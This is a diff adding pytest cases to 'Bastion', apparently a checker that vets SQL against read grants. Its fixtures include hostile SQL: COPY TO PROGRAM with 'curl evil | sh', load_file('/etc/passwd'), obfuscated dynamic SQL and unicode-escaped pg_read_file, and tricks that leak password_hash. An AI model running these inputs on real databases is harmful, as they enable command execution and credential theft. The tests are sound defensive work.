@@ -42,6 +42,9 @@ VIEWS: dict[tuple[str | None, str], tuple[tuple[str, ...], str]] = {
     (None, "user_hashes"): (("id", "hash"), "SELECT id, password_hash AS hash FROM users"),
     (None, "named_hashes"): (("id", "hash"), "SELECT id, hash FROM user_hashes"),
     (None, "broken"): (("id",), "SELECT id FROM nowhere"),
+    (None, "calls_f"): (("id",), "SELECT my_func(id) AS id FROM users"),
+    (None, "xml_dump"): (("id",), "SELECT query_to_xml('SELECT password_hash FROM users', true, true, '') AS id"),
+    (None, "ordered_names"): (("hash",), "SELECT name AS password_hash FROM users ORDER BY password_hash || ''"),
     **{(None, f"chain{i}"): (("id",), f"SELECT id FROM chain{i + 1}") for i in range(1, 10)},
     (None, "chain10"): (("id",), "SELECT id FROM users"),
 }
@@ -202,6 +205,13 @@ def test_returns_rows(sql, returns_rows):
     assert one(sql).returns_rows is returns_rows
 
 
+@pytest.mark.parametrize("sql", ["SELECT name INTO @x FROM users LIMIT 1", "SELECT id, name INTO @a, @b FROM users",
+                                 "SELECT 1 INTO @x"])
+def test_mysql_select_into_variables_returns_no_rows(sql):
+    """F11: SELECT ... INTO @var fills variables and returns no rows, so it is not a query to download."""
+    assert one(sql, "mysql").returns_rows is False
+
+
 # --- Reads (T21, T31) -------------------------------------------------------------------------
 
 @pytest.mark.parametrize(("dialect", "sql", "reads"), [
@@ -230,7 +240,6 @@ def test_returns_rows(sql, returns_rows):
     ("postgresql", "SELECT row_to_json(u) FROM users u", {USERS: set(ALL_USER_COLUMNS)}),
     ("postgresql", "SELECT u FROM users u", {USERS: set(ALL_USER_COLUMNS)}),
     ("postgresql", "SELECT json_agg(u.*) FROM users u", {USERS: set(ALL_USER_COLUMNS)}),
-    ("postgresql", "SELECT id FROM users FOR UPDATE", {USERS: {"id"}}),
     ("postgresql", "SELECT owner FROM sales.leads", {LEADS: {"owner"}}),
     ("postgresql", 'SELECT "Col" FROM "Mixed"', {TableRef(None, "Mixed"): {"Col"}}),
     ("postgresql", "UPDATE users SET name = o.note FROM orders o WHERE o.user_id = users.id RETURNING users.email",
@@ -322,7 +331,7 @@ def test_T31_view_created_from_a_hidden_column_reads_it():
     ("postgresql", "SELECT * FROM otherdb.public.users", "database part"),
     ("postgresql", "SELECT 1 FROM users WHERE ctid = '(0,1)'", 'Column "ctid"'),
     ("postgresql", "WITH t0 AS (SELECT 1 AS secret) SELECT secret FROM users", 'Column "secret"'),
-    ("postgresql", "SELECT * FROM my_function(1)", 'table function "my_function"'),
+    ("postgresql", "SELECT * FROM my_function(1)", 'function "my_function"'),
     ("postgresql", "UPDATE users SET nosuch = 1", 'Column "nosuch"'),
     ("postgresql", "INSERT INTO users (nosuch) VALUES (1)", 'Column "nosuch"'),
     ("postgresql", "INSERT INTO nowhere VALUES (1)", 'Unknown table "nowhere".'),
@@ -549,6 +558,47 @@ FORBIDDEN = [
     ("mysql", "SELECT 1 /*! , load_file('/etc/passwd') */", "/*!"),
     ("mysql", "INSTALL PLUGIN x SONAME 'x.so'", "INSTALL"),
     ("mysql", "CREATE PROCEDURE p() BEGIN SELECT name FROM users INTO OUTFILE '/x'; END", "INTO OUTFILE"),
+    # Dynamic SQL: built at run time, out of Bastion's sight (F7)
+    ("mysql", "EXECUTE IMMEDIATE 'SELECT LOAD_FILE(''/etc/hostname'')'", "Dynamic SQL"),
+    ("mysql", "EXECUTE IMMEDIATE CONCAT('SELECT ', 'LOAD_FILE(''/x'')')", "Dynamic SQL"),
+    ("mysql", "PREPARE s FROM 'SELECT 1'", "Dynamic SQL"),
+    ("mysql", "PREPARE s FROM @sql", "Dynamic SQL"),
+    ("mysql", "EXECUTE s", "Dynamic SQL"),
+    ("mysql", "EXECUTE s USING @a", "Dynamic SQL"),
+    ("mysql", "DEALLOCATE PREPARE s", "Dynamic SQL"),
+    ("mysql", "DROP PREPARE s", "Dynamic SQL"),
+    ("mysql", "CREATE PROCEDURE p() BEGIN PREPARE s FROM @q; EXECUTE s; END", "Dynamic SQL"),
+    ("mysql", "CREATE PROCEDURE p() BEGIN EXECUTE IMMEDIATE 'SELECT 1'; END", "Dynamic SQL"),
+    ("mysql", "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO EXECUTE IMMEDIATE 'SELECT 1'", "Dynamic SQL"),
+    ("postgresql", "PREPARE s AS SELECT password_hash FROM users", "Dynamic SQL"),
+    ("postgresql", "PREPARE s (int) AS SELECT $1", "Dynamic SQL"),
+    ("postgresql", "EXECUTE s", "Dynamic SQL"),
+    ("postgresql", "EXECUTE s (1)", "Dynamic SQL"),
+    ("postgresql", "DEALLOCATE ALL", "Dynamic SQL"),
+    ("postgresql", "DO $$ DECLARE r text; BEGIN EXECUTE 'CO' || 'PY o FROM PROGRAM ''id -un'''; END $$",
+     "Dynamic SQL"),
+    ("postgresql", "DO $$ BEGIN EXECUTE format('COPY o FROM PROGRAM %L', 'id'); END $$", "Dynamic SQL"),
+    ("postgresql", "DO $$ DECLARE q text := 'COPY o FROM PROGRAM ''id'''; BEGIN EXECUTE q; END $$", "Dynamic SQL"),
+    ("postgresql", "DO $$ BEGIN EXECUTE $q$COPY o $q$ || $q$FROM PROGRAM 'id'$q$; END $$", "Dynamic SQL"),
+    ("postgresql", "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT ' || 'pg_read_file(''/x'')' LOOP "
+                   "END LOOP; END $$", "Dynamic SQL"),
+    ("postgresql", "DO $$ BEGIN RETURN QUERY EXECUTE 'SELECT 1' || ''; END $$", "Dynamic SQL"),
+    ("postgresql", "DO $$ BEGIN PREPARE s AS SELECT 1; END $$", "Dynamic SQL"),
+    ("postgresql", "DO 'BEGIN EXECUTE ''CO'' || ''PY o FROM PROGRAM ''''id''''''; END'", "Dynamic SQL"),
+    ("postgresql", "CREATE FUNCTION f(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE q; END $$",
+     "Dynamic SQL"),
+    ("postgresql", "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'CO' || 'PY x'; END $$",
+     "Dynamic SQL"),
+    ("postgresql", "DO $$ DECLARE r int; BEGIN EXECUTE 'SELECT 1' INTO r; EXECUTE 'COPY users TO PROGRAM ''x'''; "
+                   "END $$", "COPY"),
+    # A name or a body spelled with escapes: they are PostgreSQL's to read
+    ("postgresql", """SELECT U&"\\0070g_read_file"('/x')""", 'U&"..."'),
+    ("postgresql", """SELECT pg_catalog.u&"!0070g_read_file" UESCAPE '!' ('/x')""", 'U&"..."'),
+    ("postgresql", """DO $$ BEGIN PERFORM U&"\\0070g_read_file"('/x'); END $$""", 'U&"..."'),
+    ("postgresql", "DO E'BEGIN C\\117PY users TO PROGRAM ''id''; END'", "plain"),
+    ("postgresql", "DO U&'BEGIN C\\004FPY users TO PROGRAM ''id''; END'", "plain"),
+    ("postgresql", "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS E'BEGIN RETURN 1; END'", "plain"),
+    ("postgresql", "DO $$ BEGIN EXECUTE E'C\\117PY users TO PROGRAM ''id'''; END $$", "Dynamic SQL"),
     # Every dialect: transaction control, session changes, the server itself
     *((dialect, sql, "one transaction") for dialect in ("sqlite", "postgresql", "mysql")
       for sql in ("BEGIN", "COMMIT", "ROLLBACK", "SAVEPOINT a", "RELEASE SAVEPOINT a", "ROLLBACK TO SAVEPOINT a")),
@@ -595,6 +645,18 @@ def test_T22_sqlite_file_access_is_forbidden(dialect, sql):
     assert statement.kind in (Kind.OTHER, Kind.READ)
 
 
+@pytest.mark.parametrize("levels", range(1, 8))
+def test_T21_sql_nested_in_strings_is_followed_or_refused_however_deep(levels):
+    """DO inside EXECUTE '...' inside DO ...: past the depth Bastion follows, the statement is refused."""
+    def quoted(sql: str) -> str:
+        return "'" + sql.replace("'", "''") + "'"
+
+    sql = "COPY users TO PROGRAM 'id'"
+    for _ in range(levels):
+        sql = f"DO {quoted(f'BEGIN EXECUTE {quoted(sql)}; END')}"
+    assert one(sql).forbidden
+
+
 def test_T21_copy_to_program_is_forbidden():
     assert "COPY" in one("COPY users TO PROGRAM 'curl evil | sh'").forbidden
 
@@ -622,11 +684,239 @@ def test_T21_a_forbidden_statement_does_not_hide_in_a_script():
     ("postgresql", "SELECT id FROM users ORDER BY name FOR UPDATE"),
     ("postgresql", "UPDATE users SET name = 'SET x; COMMIT'"),
     ("mysql", "SELECT id INTO @v FROM users"),
+    ("postgresql", "DO $$ BEGIN EXECUTE 'SELECT 1'; END $$"),
+    ("postgresql", "DO $$ DECLARE r int; BEGIN EXECUTE 'SELECT 1' INTO r; END $$"),
+    ("postgresql", "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$"),
+    ("postgresql", "DO $$ BEGIN EXECUTE $q$SELECT 1$q$ USING 1; END $$"),
+    ("postgresql", "DO $$ BEGIN GRANT EXECUTE ON FUNCTION f() TO bob; END $$"),
+    ("postgresql", "CREATE TRIGGER tr AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()"),
+    ("postgresql", "CREATE TRIGGER tr AFTER INSERT ON users FOR EACH ROW EXECUTE PROCEDURE f()"),
+    ("postgresql", "GRANT EXECUTE ON FUNCTION f() TO bob"),
+    ("postgresql", "SELECT 'EXECUTE s', 'PREPARE x AS SELECT 1' FROM users"),
+    ("postgresql", "SELECT name AS execute FROM users"),
+    ("postgresql", 'SELECT id & "id" FROM users'),
+    ("postgresql", 'SELECT u & "id" FROM users u'),
     ("mysql", "SELECT 1 /*+ MAX_EXECUTION_TIME(100) */"),
     ("mysql", "INSERT INTO orders (note) VALUES ('/*! not a comment */')"),
 ])
 def test_T21_look_alikes_are_not_forbidden(dialect, sql):
     assert one(sql, dialect).forbidden is None
+
+
+# --- Output names that shadow table columns (T31) ----------------------------------------------
+
+@pytest.mark.parametrize(("dialect", "sql"), [
+    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY CAST(password_hash AS int)"),
+    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY CASE WHEN password_hash LIKE 'a%' THEN 0 END"),
+    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY password_hash || ''"),
+    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY (password_hash)"),
+    ("postgresql", 'SELECT name AS password_hash FROM users ORDER BY password_hash COLLATE "C"'),
+    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY id, length(password_hash) DESC"),
+    ("postgresql", "SELECT DISTINCT ON (CAST(password_hash AS int)) name AS password_hash FROM users"),
+    ("postgresql", "SELECT name AS password_hash FROM users GROUP BY password_hash"),
+    ("postgresql", "SELECT max(name) AS password_hash FROM users GROUP BY id HAVING max(password_hash) > ''"),
+    ("postgresql", "SELECT u.name AS password_hash FROM users u ORDER BY upper(password_hash)"),
+    ("postgresql", "SELECT name AS password_hash FROM users WHERE id IN "
+                   "(SELECT id AS password_hash FROM users ORDER BY password_hash || '' LIMIT 1)"),
+    ("mysql", "SELECT name AS password_hash FROM users ORDER BY CASE WHEN password_hash LIKE 'a%' THEN 0 END"),
+    ("mysql", "SELECT name AS password_hash FROM users ORDER BY CAST(password_hash AS DECIMAL) + 1"),
+    ("mysql", "SELECT name AS PASSWORD_HASH FROM users ORDER BY CONCAT(password_hash, '')"),
+    ("mysql", "SELECT name AS password_hash FROM users GROUP BY password_hash"),
+    ("mysql", "SELECT name AS password_hash FROM users HAVING password_hash LIKE 'a%'"),
+    ("sqlite", "SELECT name AS password_hash FROM users ORDER BY CAST(password_hash AS int)"),
+])
+def test_T31_a_shadowed_name_in_an_ordering_expression_reads_the_table_column(dialect, sql):
+    """F2: PostgreSQL (and MariaDB) read the table column, not the output, inside an ORDER BY expression."""
+    statement = one(sql, dialect)
+    assert statement.problem is None
+    assert "password_hash" in statement.reads[USERS]
+
+
+@pytest.mark.parametrize(("dialect", "sql"), [
+    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY password_hash"),
+    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY password_hash DESC NULLS LAST"),
+    ("postgresql", "SELECT DISTINCT ON (password_hash) name AS password_hash FROM users"),
+    ("mysql", "SELECT name AS password_hash FROM users ORDER BY password_hash"),
+    ("sqlite", "SELECT name AS password_hash FROM users ORDER BY password_hash"),
+])
+def test_T31_a_bare_ordering_name_means_the_output(dialect, sql):
+    """Every engine resolves a bare ORDER BY name to the output column first."""
+    statement = one(sql, dialect)
+    assert statement.problem is None
+    assert statement.reads == {USERS: frozenset({"name"})}
+
+
+@pytest.mark.parametrize(("dialect", "sql", "reads"), [
+    ("mysql", "SELECT name AS n FROM users ORDER BY CONCAT(n, '')", {"name"}),
+    ("postgresql", "SELECT count(*) AS c FROM orders GROUP BY user_id ORDER BY c + 1", {"user_id"}),
+    ("postgresql", "SELECT o.total AS total FROM orders o ORDER BY total * 2", {"total"}),
+])
+def test_T31_an_output_name_no_table_has_stays_the_output(dialect, sql, reads):
+    statement = one(sql, dialect)
+    assert statement.problem is None
+    assert set().union(*statement.reads.values()) == reads
+
+
+def test_T31_a_view_ordering_by_a_shadowed_name_reads_the_column():
+    statement = one("SELECT hash FROM ordered_names")
+    assert "password_hash" in statement.via_views[USERS]
+
+
+# --- Functions (T21, T31) ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("sql", [
+    "SELECT query_to_xml('SELECT password_hash FROM users', true, true, '')",
+    "SELECT query_to_xml_and_xmlschema('SELECT 1', true, true, '')",
+    "SELECT query_to_xmlschema('SELECT 1', true, true, '')",
+    "SELECT table_to_xml('users', true, true, '')",
+    "SELECT table_to_xmlschema('users', true, true, '')",
+    "SELECT table_to_xml_and_xmlschema('users', true, true, '')",
+    "SELECT schema_to_xml('public', true, true, '')",
+    "SELECT schema_to_xml_and_xmlschema('public', true, true, '')",
+    "SELECT database_to_xml(true, true, '')",
+    "SELECT database_to_xmlschema(true, true, '')",
+    "SELECT cursor_to_xml('c', 1, true, true, '')",
+    "SELECT * FROM ts_stat('SELECT to_tsvector(password_hash) FROM users')",
+    "SELECT ts_rewrite(to_tsquery('x'), 'SELECT to_tsquery(password_hash), to_tsquery(''y'') FROM users')",
+    "SELECT pg_catalog.query_to_xml('SELECT 1', true, true, '')",
+    """SELECT "query_to_xml"('SELECT 1', true, true, '')""",
+    "SELECT xpath('/x', query_to_xml('SELECT 1', true, true, ''))",
+    "SELECT name FROM users WHERE length(query_to_xml('SELECT 1', true, true, '')::text) > 0",
+    "CREATE VIEW v AS SELECT query_to_xml('SELECT 1', true, true, '')",
+])
+def test_T21_functions_that_run_sql_given_as_text_are_forbidden(sql):
+    """F1: the SQL in their string argument, or the table they are given by name, is never analysed."""
+    assert "runs SQL given to it as text" in (one(sql).forbidden or "")
+
+
+@pytest.mark.parametrize("sql", [
+    "SELECT pg_stat_get_activity(NULL)",
+    "SELECT * FROM pg_stat_get_activity(NULL)",
+    "SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s",
+    "SELECT pg_catalog.pg_stat_get_backend_pid(1)",
+])
+def test_T21_functions_showing_other_sessions_sql_are_forbidden(sql):
+    assert "other sessions" in (one(sql).forbidden or "")
+
+
+def test_T21_a_function_running_sql_given_as_text_is_forbidden_inside_a_body():
+    sql = "CREATE FUNCTION f() RETURNS xml LANGUAGE sql AS $$ SELECT query_to_xml('SELECT 1', true, true, '') $$"
+    assert "runs SQL given to it as text" in (one(sql).forbidden or "")
+
+
+@pytest.mark.parametrize(("dialect", "sql", "name"), [
+    ("postgresql", "SELECT my_func(id) FROM users", "my_func"),
+    ("postgresql", "SELECT name FROM users WHERE my_func(id)", "my_func"),
+    ("postgresql", "SELECT public.my_func(1)", "public.my_func"),
+    ("postgresql", "SELECT public.upper('x')", "public.upper"),
+    ("postgresql", 'SELECT "Upper"(name) FROM users', "Upper"),
+    ("postgresql", 'SELECT "UPPER"(name) FROM users', "UPPER"),
+    ("postgresql", """SELECT "Format"('%s', 1)""", "Format"),
+    ("postgresql", "SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
+    ("postgresql", "SELECT pg_notify('c', 'x')", "pg_notify"),
+    ("postgresql", "SELECT to_regclass('users')", "to_regclass"),
+    ("postgresql", "UPDATE users SET name = my_func(name)", "my_func"),
+    ("postgresql", "INSERT INTO orders (note) SELECT my_func(1)", "my_func"),
+    ("postgresql", "CREATE TABLE n (a int DEFAULT my_func())", "my_func"),
+    ("postgresql", "CREATE INDEX i ON users (my_func(name))", "my_func"),
+    ("mysql", "SELECT my_func(id) FROM users", "my_func"),
+    ("mysql", "SELECT db.upper('x')", "db.upper"),
+    ("mysql", "SELECT GET_LOCK('x', 1)", "GET_LOCK"),
+    ("mysql", "SELECT LAST_INSERT_ID(5)", "LAST_INSERT_ID"),
+    ("sqlite", "SELECT my_func(id) FROM users", "my_func"),
+])
+def test_T31_a_function_bastion_does_not_know_makes_the_statement_unverified(dialect, sql, name):
+    """A user-defined function runs any SQL it likes with the login's rights."""
+    statement = one(sql, dialect)
+    assert statement.problem == f'Bastion cannot check what the function "{name}" does.'
+    assert statement.forbidden is None
+
+
+@pytest.mark.parametrize(("dialect", "sql"), [
+    ("postgresql", "SELECT pg_sleep(0.1), version(), current_setting('TimeZone'), pg_typeof(id), gen_random_uuid() "
+                   "FROM users"),
+    ("postgresql", "SELECT format('%s-%s', name, email), concat_ws(',', name, email), lpad(name, 10), "
+                   "split_part(email, '@', 2), regexp_replace(name, 'a', 'b'), regexp_matches(name, 'a') FROM users"),
+    ("postgresql", "SELECT jsonb_build_object('n', name), json_build_array(id, name), to_jsonb(name), "
+                   "jsonb_agg(name), row_to_json(ROW(id, name)) FROM users GROUP BY id"),
+    ("postgresql", "SELECT date_trunc('day', now()), age(now()), to_char(now(), 'YYYY'), make_date(2020, 1, 1), "
+                   "clock_timestamp(), extract(year FROM now())"),
+    ("postgresql", "SELECT array_upper(ARRAY[1], 1), cardinality(ARRAY[1]), array_to_string(ARRAY[1], ','), "
+                   "unnest(ARRAY[1]), string_agg(name, ',') FROM users"),
+    ("postgresql", "SELECT ts_rank(to_tsvector('simple', name), plainto_tsquery('simple', 'x')) FROM users"),
+    ("postgresql", "SELECT currval('s'), lastval(), quote_ident(name), pg_column_size(name) FROM users"),
+    ("postgresql", "SELECT pg_catalog.upper(name), pg_catalog.lower(email), PG_CATALOG.jsonb_build_object('a', 1) "
+                   "FROM users"),
+    ("postgresql", """SELECT "upper"(name), "format"('%s', 1) FROM users"""),
+    ("postgresql", "SELECT count(*), sum(total), avg(total), row_number() OVER (ORDER BY id) FROM orders GROUP BY id"),
+    ("postgresql", "SELECT int4range(1, 5), isempty(int4range(1, 1)), point(1, 2)"),
+    ("postgresql", "INSERT INTO users (id, name) VALUES (1, upper('x')) ON CONFLICT (id) DO NOTHING"),
+    ("postgresql", "CREATE TABLE n (id uuid DEFAULT gen_random_uuid(), at timestamptz DEFAULT now())"),
+    ("mysql", "SELECT SLEEP(0), VERSION(), DATABASE(), NOW(), IFNULL(name, ''), CONCAT_WS(',', name, email), "
+              "LPAD(name, 3, ' '), INSTR(name, 'a'), DATE_FORMAT(NOW(), '%Y'), JSON_OBJECT('n', name) FROM users"),
+    ("mysql", "SELECT JSON_UNQUOTE(JSON_EXTRACT(name, '$')), JSON_ARRAYAGG(id), FIND_IN_SET('a', name), "
+              "UNIX_TIMESTAMP(), LAST_INSERT_ID(), ROW_COUNT(), USER(), REGEXP_REPLACE(name, 'a', 'b') FROM users"),
+    ("mysql", "INSERT INTO users (id, name) VALUES (1, 'a') ON DUPLICATE KEY UPDATE name = VALUES(name)"),
+    ("mysql", "VALUES ROW(1, 2)"),
+    ("sqlite", "SELECT typeof(id), printf('%d', id), ifnull(name, ''), instr(name, 'a'), julianday('now'), "
+               "strftime('%Y', 'now'), datetime('now'), date('now'), time('now'), json_object('n', name), "
+               "json_array(id), quote(name), total(id), changes(), last_insert_rowid() FROM users GROUP BY id"),
+])
+def test_T31_common_built_ins_keep_a_statement_verified(dialect, sql):
+    statement = one(sql, dialect)
+    assert statement.problem is None
+    assert statement.forbidden is None
+
+
+def test_T31_a_view_calling_a_function_bastion_does_not_know_is_a_problem():
+    assert one("SELECT id FROM calls_f").problem == (
+        'Bastion cannot analyse the definition of view "calls_f": Bastion cannot check what the function "my_func" '
+        "does.")
+
+
+def test_T31_a_view_running_sql_given_as_text_is_a_problem():
+    statement = one("SELECT id FROM xml_dump")
+    assert statement.forbidden is None  # the user did not write it; the view's owner did
+    assert "runs SQL given to it as text" in statement.problem
+
+
+@pytest.mark.parametrize(("dialect", "sql"), [
+    ("postgresql", "SELECT setval('users_id_seq', 100)"),
+    ("postgresql", "SELECT nextval('users_id_seq')"),
+    ("postgresql", "SELECT pg_catalog.setval('users_id_seq', 1)"),
+    ("postgresql", "SELECT NEXTVAL('users_id_seq')"),
+    ("postgresql", "INSERT INTO orders (id) VALUES (nextval('orders_id_seq'))"),
+    ("postgresql", "SELECT name FROM users WHERE id = nextval('s')"),
+    ("mysql", "SELECT NEXTVAL(s)"),
+    ("mysql", "SELECT SETVAL(s, 10)"),
+])
+def test_T21_changing_a_sequence_is_a_problem(dialect, sql):
+    """F6: a sequence stays changed after the rollback of a run; it is no read."""
+    statement = one(sql, dialect)
+    assert "changes a sequence" in statement.problem
+    assert statement.forbidden is None
+
+
+@pytest.mark.parametrize(("dialect", "sql"), [
+    ("postgresql", "SELECT id FROM users FOR UPDATE"),
+    ("postgresql", "SELECT id FROM users FOR SHARE"),
+    ("postgresql", "SELECT id FROM users FOR NO KEY UPDATE"),
+    ("postgresql", "SELECT id FROM users FOR KEY SHARE"),
+    ("postgresql", "SELECT id FROM users FOR UPDATE OF users SKIP LOCKED"),
+    ("postgresql", "SELECT name FROM users WHERE id IN (SELECT user_id FROM orders FOR UPDATE)"),
+    ("mysql", "SELECT id FROM users FOR UPDATE"),
+    ("mysql", "SELECT id FROM users LOCK IN SHARE MODE"),
+    ("mysql", "SELECT id FROM users FOR SHARE"),
+])
+def test_T21_locking_rows_is_a_problem(dialect, sql):
+    """F6: locking the rows it reads is more than a read grant allows."""
+    statement = one(sql, dialect)
+    assert statement.kind == Kind.READ
+    assert "lock the rows they read" in statement.problem
+
+
+def test_a_locking_read_still_finds_its_reads():
+    assert one("SELECT name FROM users WHERE id = 1 FOR UPDATE").reads == {USERS: frozenset({"name", "id"})}
 
 
 # --- Hostile names ----------------------------------------------------------------------------
